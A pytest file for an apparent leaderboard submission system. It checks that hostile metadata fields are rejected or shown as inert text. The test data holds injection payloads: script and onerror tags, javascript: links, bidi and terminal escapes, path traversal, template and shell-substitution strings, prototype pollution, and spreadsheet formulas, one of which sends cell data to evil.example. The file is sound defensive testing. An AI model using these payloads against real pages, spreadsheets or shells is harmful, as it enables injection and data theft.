"""Attacks by metadata: refused, or shown as nothing but text."""

import json
import re
from collections.abc import Callable, Mapping
from typing import Any

import pytest
from lab import NEXT, Lab, named, run_text
from page_checks import check_cells, check_page
from target import all_played, contained, is_calm, sealed, shared_target, unchanged

from heldout.ids import digest_bytes

checked, lab = all_played, shared_target


def metadata(submission: str, *, seed: int = 5, **fields: Any) -> dict[str, Any]:
    """The metadata of a submission with its binding, some fields replaced."""
    digests = {name: digest_bytes(run_text(name, seed).encode()) for name in ("dev", "eval")}
    given = {**named("Harbour"), "type": "full ranking", "id": submission, "revision": 1}
    return {**given, "digests": digests, **fields}


def with_fields(**fields: Any) -> Callable[[str], bytes]:
    return lambda submission: json.dumps(metadata(submission, **fields)).encode()


def with_text(old: str, new: str) -> Callable[[str], bytes]:
    """JSON that no program writes."""
    return lambda submission: json.dumps(metadata(submission)).replace(old, new, 1).encode()


REFUSED_METADATA: Mapping[str, tuple[Callable[[str], bytes], str]] = {
    "ten thousand fields": (
        with_fields(**{f"x{number}": number for number in range(10_000)}),
        "9,990 more unknown fields",
    ),
    "a javascript: link": (with_fields(paper="javascript://example.org/%0aalert(1)"), "not-a-link"),
    "a data: link": (with_fields(code="data:text/html,<script>alert(1)</script>"), "not-a-link"),
    "a link that ends its attribute": (
        with_fields(paper='https://example.org/"onclick="x'),
        "not-a-link",
    ),
    "a link with a name before its host": (
        with_fields(paper="https://example.org@evil.example/"),
        "not-a-link",
    ),
    "bidi marks": (with_fields(team="safe \u202egnp.exe\u2066"), "invisible-character"),
    "invisible characters": (with_fields(team="Light\u200bhouse"), "invisible-character"),
    "terminal escapes": (with_fields(team="\x1b[2J\x1b]0;owned\x07"), "invisible-character"),
    "a zero byte": (with_fields(model_description="a\x00b"), "invisible-character"),
    "a string of 900 kB": (with_fields(model_description="x" * 900_000), "wrong-field"),
    "deep JSON": (lambda _: b'{"team":' + b"[" * 500_000, "not-json"),
    "a field whose name a terminal obeys": (with_fields(**{"\x1b[2J\u202e": 1}), "unknown-field"),
    "a score of one's own": (with_fields(score=1.0), "unknown-field"),
    "not a number": (with_text('"revision": 1', '"revision": NaN'), "not-json"),
    "a number of 4,000 digits": (
        with_text('"revision": 1', f'"revision": {"9" * 4000}'),
        "not-json|wrong-field",
    ),
    "half a character": (with_text("Harbour Team", "\\ud800"), "not-json"),
    "another encoding": (lambda s: json.dumps(metadata(s)).encode("utf-16"), "not-json"),
    "the id of another submission": (with_fields(id="20261102-first"), "cannot be opened"),
    "the digests of other runs": (
        with_fields(digests={"dev": "0" * 64, "eval": "1" * 64}),
        "cannot be opened",
    ),
    "a type that the board does not have": (with_fields(type="../../oracle"), "oracle"),
}


def deliver(
    lab: Lab, name: str, given: Mapping[str, tuple[bytes, int]], *, kind: str = "received"
) -> str:
    """Leave sealed submissions in a folder for the inbox: id -> metadata, seed; what it says."""
    folder = lab.root / name
    folder.mkdir()
    for submission, (data, seed) in given.items():
        for file, content in sealed(lab, submission, data, seed=seed).items():
            (folder / file).write_bytes(content)
    answer = lab.organiser("inbox", "--from", folder, "--no-fetch", "--json", now=NEXT)
    kinds = {r["id"]: r["kind"] for r in answer.json["received"]}
    assert {kinds[submission] for submission in given} == {kind}
    return answer.out


@pytest.fixture(scope="module")
def opened(lab: Lab) -> Mapping[str, Any]:
    """All of them received, as they must be, opened, and tried to be published: id -> review."""
    ids = [f"20261103-m{number}" for number in range(len(REFUSED_METADATA))]
    made = zip(ids, REFUSED_METADATA.values(), strict=True)
    deliver(lab, "metadata", {name: (make(name), 5) for name, (make, _) in made})
    shown = lab.organiser("review", *ids, "--json", now=NEXT)
    assert lab.organiser("rebuild", now=NEXT).code == 0
    logged = [(e["kind"], e["submission"]) for e in lab.events() if e["submission"] in ids]
    assert sorted(logged) == sorted((kind, i) for kind in ("received", "reviewed") for i in ids)
    with unchanged(lab):
        said = [lab.organiser("review", *ids, now=NEXT), lab.publish(*ids, now=NEXT)]
    assert [answer.code for answer in (shown, *said)] == [1, 1, 1]
    assert all(map(is_calm, said))
    return {review["id"]: review for review in shown.json["reviews"]}


@pytest.mark.parametrize("attack", REFUSED_METADATA)
def test_metadata_that_is_refused(opened: Mapping[str, Any], attack: str) -> None:
    review = opened[f"20261103-m{list(REFUSED_METADATA).index(attack)}"]
    evidence = [f["evidence"] for f in review["findings"] if f["severity"] == "reject"]
    assert re.search(REFUSED_METADATA[attack][1], "\n".join(evidence)), review["findings"]
    assert all(len(text) < 2000 for text in evidence)
    assert review["scores"] is None
    contained.add(attack)


def test_metadata_that_is_too_large_is_not_stored(lab: Lab) -> None:
    name = "20261103-large"
    data = with_fields(model_description="x" * 10_000_000)(name)
    with unchanged(lab):
        assert "too-large" in deliver(lab, "large", {name: (data, 5)}, kind="refused")
    contained.add("a string of 10 MB")


SHOWN: Mapping[str, Mapping[str, str]] = {
    "HTML": {"model_description": "<script>alert(1)</script><img src=x onerror=alert(1)>"},
    "HTML that ends the page": {"training_data": "</td></table></main></body><h1>owned</h1>"},
    "a formula": {"team": '=HYPERLINK("https://evil.example/"&A1) Team'},
    "a formula of another program": {"model_description": "@SUM(1+1)*cmd|' /C touch canary'!A0"},
    "a template": {"model_description": "{{ 7 * 191 }} {% for x in y %} ${7*191} #{7*191}"},
    "shell characters": {"team": "$(touch canary); `touch canary` | Team"},
    "the mark of a comment": {"model_description": f"--> <!-- heldout {'0' * 64} -->"},
    "BibTeX that ends its field": {"team": "A} }, @misc{x, note={owned"},
    "a field of another program's objects": {"institution": "__proto__ constructor.prototype"},
}


def shown_fields(attack: str) -> Mapping[str, Any]:
    return {**named(f"Number{list(SHOWN).index(attack)}"), **SHOWN[attack]}


@pytest.fixture(scope="module")
def entries(lab: Lab) -> Mapping[str, Any]:
    """All of them published: id -> row; the pages and the table are looked at as a whole."""
    given = {}
    for number, attack in enumerate(SHOWN):
        name, seed = f"20261103-s{number}", 40 + number
        data = json.dumps(metadata(name, seed=seed, **shown_fields(attack))).encode()
        given[name] = (data, seed)
    deliver(lab, "shown", given)
    said = lab.organiser("publish", *given, "--yes", "--why", "as it is", now=NEXT)
    assert (said.code, is_calm(said)) == (0, True), said
    return {row["id"]: row for row in lab.rows()}


@pytest.mark.parametrize("attack", SHOWN)
def test_metadata_that_is_shown_as_text(lab: Lab, entries: Mapping[str, Any], attack: str) -> None:
    submission = f"20261103-s{list(SHOWN).index(attack)}"
    assert entries[submission]["description"] == shown_fields(attack)["model_description"]
    folder = lab.board / "leaderboard"
    check_page(folder / "entries" / f"{submission}.html")
    check_page(folder / "index.html")
    check_cells(folder / "leaderboard.csv")
    assert lab.nothing_ran()
    contained.add(attack)
